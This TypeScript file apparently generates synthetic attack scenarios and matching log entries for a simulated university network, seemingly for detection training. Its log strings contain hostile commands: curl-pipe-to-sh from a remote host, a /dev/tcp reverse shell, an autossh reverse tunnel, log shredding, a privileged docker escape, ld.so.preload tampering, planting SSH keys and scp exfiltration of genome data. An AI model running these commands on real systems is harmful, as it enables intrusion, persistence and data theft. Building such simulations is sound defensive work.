import type { Plan } from "../scenario.ts";
import { HOUR, MINUTE } from "../calendar.ts";
import { auditd, cron, edge, forti, line, ssh, sudo } from "../infra.ts";
import { hostileNet, partnerNet } from "../places.ts";
import { host } from "../windows.ts";
import { has, times } from "./tools.ts";

const area = "linux" as const;

export const linux: Plan[] = [
  { kind: "password-guessed-then-miner", area, difficulty: "obvious", types: ["account_compromise"], when: "any",
      run: (a) => {
    const { w, rng } = a;
    const on = host(w, rng.pick(["web-lab02", "econ-calc", "corpus01"]));
    const net = a.net(hostileNet(rng));
    const name = rng.pick(["course12", "demo", "jupyter"]);
    a.about(on.name, name);
    const t = a.at(rng.float(0, 23));
    times(48, (i) => ssh(w, t + i * 2500, on, name, net.ip, "fail"));
    a.core(() => {
      ssh(w, t + 3 * MINUTE, on, name, net.ip, "password");
      cron(w, t + 6 * MINUTE, on, name, "curl -fsSL http://198.51.100.66/k.sh | sh > /dev/null 2>&1");
      cron(w, t + 7 * MINUTE, on, name, "curl -fsSL http://198.51.100.66/k.sh | sh > /dev/null 2>&1");
    });
    edge(w, t + 12 * MINUTE, { from: on.ip, to: "198.51.100.66", port: 3333, host: on.name, app: "stratum",
      sent: 700_000 });
    return `The password of ${name} on ${on.name} is guessed; a scheduled job loads a miner.`;
  } },
  { kind: "cluster-entered-with-a-stolen-key", area, difficulty: "context", types: ["account_compromise"], times: 2,
      run: (a) => {
    const { w, rng } = a;
    const p = a.anybody((x) => x.tags.has("shell") && x.tags.has("researcher") && x.unitCode === "sci");
    const on = host(w, rng.pick(["hpc-login1", "hpc-login2"]));
    a.about(on.name);
    const net = a.net(rng.chance(0.5) ? partnerNet(rng, "tu-ostmark.example") : hostileNet(rng));
    const t = a.at(rng.float(1, 5));
    a.core(() => {
      ssh(w, t, on, p.sam, net.ip, "key");
      auditd(w, t + 5 * MINUTE, on, "11021", "/usr/bin/wget", "fetch", ["wget", "-q", `http://${net.ip}/fonts/.low`,
        "-O", "/var/tmp/.fonts/low"]);
      line(w, t + 8 * MINUTE, on, "kernel", "low[28122]: segfault at 0 ip 00007f2c error 6 in libc.so.6",
        { facility: "kern", severity: "warning" });
    });
    cron(w, t + HOUR, on, p.sam, "/var/tmp/.fonts/.low -a rx/0 --nice 19");
    return `The key of ${p.display} is used at night from ${net.city} on ${on.name}, where a hidden program is loaded `
      + `and run when it is quiet.`;
  } },
  { kind: "student-becomes-root", area, difficulty: "context", types: ["privilege_escalation", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.kind === "student");
    const on = host(w, rng.pick(["ml-gpu01", "climate01"]));
    a.about(on.name);
    const t = a.at(rng.float(19, 23));
    ssh(w, t, on, p.sam, p.laptop.ip, "password");
    times(2, (i) => sudo(w, t + (2 + i) * MINUTE, on, p.sam, "/bin/bash", { denied: true }));
    a.core(() => {
      line(w, t + 14 * MINUTE, on, "su", `(to root) ${p.sam} on pts/3`);
      line(w, t + 15 * MINUTE, on, "sudo",
        `    root : TTY=pts/3 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/h.tgz `
          + `/home/${w.subs.get("ml")!.owner.sam}`, { severity: "notice" });
    });
    return `The student assistant ${p.display}, who may not use sudo on ${on.name}, becomes root and packs the home `
      + `of the professor.`;
  } },
  { kind: "web-shell", area, difficulty: "obvious", types: ["account_compromise"], when: "any", times: 2, run: (a) => {
    const { w, rng } = a;
    const on = host(w, "web-fac01");
    const net = a.net(hostileNet(rng));
    a.about(on.name);
    const t = a.at(rng.float(0, 23));
    line(w, t, on, "apache2",
      `${net.ip} - - "POST /wp-content/uploads/2026/cache.php HTTP/1.1" 200 214 "-" "python-requests/2.31"`,
      { facility: "local7" });
    a.core(() => {
      for (const [i, args] of [["sh", "-c", "id; uname -a"], ["sh", "-c", "cat /var/www/site/wp-config.php"],
          ["sh", "-c", `bash -i >& /dev/tcp/${net.ip}/4444 0>&1`]].entries()) {
        auditd(w, t + 2000 + i * 40_000, on, "33", "/bin/dash", "www_shell", args);
      }
    });
    edge(w, t + 90_000, { from: on.ip, to: net.ip, port: 4444, host: on.name, zoneFrom: "dmz", duration: 1900 });
    return `A file in the uploads of the faculty site runs commands of the Internet and opens a connection back.`;
  } },
  { kind: "return-tunnel", area, difficulty: "hard", types: ["account_compromise", "policy_violation"], days: 6,
      run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.tags.has("shell") && x.tags.has("researcher"));
    const on = p.linux[0]!;
    const net = a.net(hostileNet(rng));
    a.about(on.name);
    times(6, (i) => {
      a.core(() => cron(w, a.at(2.5, i), on, p.sam, `autossh -M 0 -f -N -R 2222:localhost:22 u@${net.ip}`));
      edge(w, a.at(2.51, i), { from: on.ip, to: net.ip, port: 443, host: on.name, app: "ssh", duration: 85_000,
        sent: rng.int(2e6, 9e6) });
    });
    return `A nightly job of ${p.sam} on ${on.name} keeps a tunnel open by which somebody outside can come in.`;
  } },
  { kind: "recording-stopped", area, difficulty: "obvious", types: ["sabotage", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const p = a.staff(has("lab", "shell"));
    const on = p.linux[0] ?? host(w, "genome01");
    a.about(on.name);
    const t = a.at(rng.float(20, 23.5));
    a.core(() => {
      sudo(w, t, on, p.sam, "/usr/bin/systemctl stop auditd rsyslog");
      sudo(w, t + 20_000, on, p.sam, "/usr/bin/shred -u /var/log/auth.log");
      line(w, t + 21_000, on, "auditd", "The audit daemon is exiting.");
    });
    return `${p.display} stops the recording on ${on.name} and destroys its log in the evening.`;
  } },
  { kind: "genomes-copied-away", area, difficulty: "context", types: ["data_exfiltration", "account_compromise"],
      run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.unitCode === "med" && x.tags.has("shell"));
    const on = host(w, rng.pick(["genome01", "genome02"]));
    const net = a.net(hostileNet(rng));
    a.about(on.name);
    const t = a.at(rng.float(22, 26));
    ssh(w, t, on, p.sam, "10.99.4.77", "key");
    a.core(() => {
      auditd(w, t + 6 * MINUTE, on, "12077", "/usr/bin/tar", "bulk",
        ["tar", "czf", "/scratch/.x.tgz", "/srv/cohorts/2025"]);
      auditd(w, t + 40 * MINUTE, on, "12077", "/usr/bin/scp", "bulk", ["scp", "/scratch/.x.tgz", `b@${net.ip}:`]);
      edge(w, t + 4 * HOUR, { from: on.ip, to: net.ip, port: 22, host: on.name, app: "ssh", sent: rng.int(4e10, 9e10),
        received: 9_000_000, duration: 11_000 });
    });
    return `With the account of ${p.display} a cohort of genomes is packed on ${on.name} at night and copied to a `
      + `rented server.`;
  } },
  { kind: "second-root", area, difficulty: "obvious", types: ["account_compromise", "privilege_escalation"], times: 2,
      run: (a) => {
    const { w, rng } = a;
    const on = host(w, rng.pick(["git01", "ezproxy01", "web-fac01"]));
    const name = rng.pick(["sysd", "ntpd2", "toor"]);
    a.about(on.name, name);
    const t = a.at(rng.float(1, 5));
    a.core(() => {
      line(w, t, on, "useradd", `new user: name=${name}, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1`);
      line(w, t + 4000, on, "passwd", `pam_unix(passwd:chauthtok): password changed for ${name}`);
      ssh(w, t + 9 * MINUTE, on, name, a.net(hostileNet(rng)).ip, "password");
    });
    return `An account ${name} with the number of root is created on ${on.name} and used from abroad.`;
  } },
  { kind: "hidden-library", area, difficulty: "hard", types: ["account_compromise"], run: (a) => {
    const { w, rng } = a;
    const on = host(w, "ssh-gw");
    a.about(on.name);
    const t = a.at(rng.float(3, 6));
    a.core(() => auditd(w, t, on, "0", "/usr/bin/tee", "preload", ["tee", "/etc/ld.so.preload"]));
    line(w, t + 90_000, on, "kernel", "audit: backlog limit exceeded", { facility: "kern", severity: "warning" });
    return `Something writes the list of libraries that every program of the SSH gateway loads.`;
  } },
  { kind: "container-with-the-whole-machine", area, difficulty: "obvious",
      types: ["privilege_escalation", "insider_threat"], run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.unitCode === "eng" && x.tags.has("researcher"));
    const on = host(w, "ml-gpu02");
    a.about(on.name);
    const t = a.at(rng.float(16, 21));
    a.core(() => {
      auditd(w, t, on, "11877", "/usr/bin/docker", "docker", ["docker", "run", "--privileged", "-v", "/:/host",
        "alpine", "chroot", "/host", "sh"]);
      line(w, t + 3 * MINUTE, on, "usermod", `add '${p.sam}' to group 'sudo'`);
      sudo(w, t + 6 * MINUTE, on, p.sam, "/usr/bin/cat /home/mlowner/.ssh/id_ed25519");
    });
    return `${p.display} mounts the whole of ${on.name} into a container, joins the group of administrators and reads `
      + `the key of somebody else.`;
  } },
  { kind: "poisoned-package", area, difficulty: "hard", types: ["account_compromise", "data_exfiltration"],
      run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.tags.has("shell") && (x.unitCode === "eng" || x.unitCode === "sci"));
    const on = p.linux[0]!;
    a.about(on.name);
    const t = a.at(rng.float(10, 16));
    a.core(() => {
      auditd(w, t, on, "11500", "/usr/bin/python3.12", "pip", ["pip", "install", "torch-utilities2"]);
      times(5, (i) => forti(w, t + (1 + i * 9) * MINUTE, "54802", "dns:dns-response pass",
        { DeviceAction: "pass", SourceIP: on.ip, SourceHostName: on.name, DestinationIP: "10.10.1.53",
        DestinationPort: 53, Protocol: "UDP",
        DestinationHostName: `${rng.hex(40)}.h4ck.pkg-metrics.example` }));
    });
    return `A package with a misleading name is installed on ${on.name}; the machine then asks for long random names `
      + `of one domain.`;
  } },
  { kind: "keys-placed-for-many", area, difficulty: "context", types: ["account_compromise", "insider_threat"],
      run: (a) => {
    const { w, rng } = a;
    const p = a.staff((x) => x.tags.has("lab") && x.tags.has("shell"));
    const on = p.linux[0] ?? host(w, "astro-data");
    a.about(on.name);
    const t = a.at(rng.float(19, 23));
    const names = rng.sample(w.people.filter((x) => x.linux.includes(on) && x !== p), 4);
    for (const [i, victim] of names.entries()) a.core(() => sudo(w, t + i * 30_000, on, p.sam,
      `/usr/bin/tee -a /home/${victim.sam}/.ssh/authorized_keys`));
    a.core(() => ssh(w, t + HOUR, on, names[0]?.sam ?? "root", p.home.ip, "key"));
    return `${p.display} puts a key into the accounts of colleagues on ${on.name} and comes back as one of them from `
      + `home.`;
  } },
];
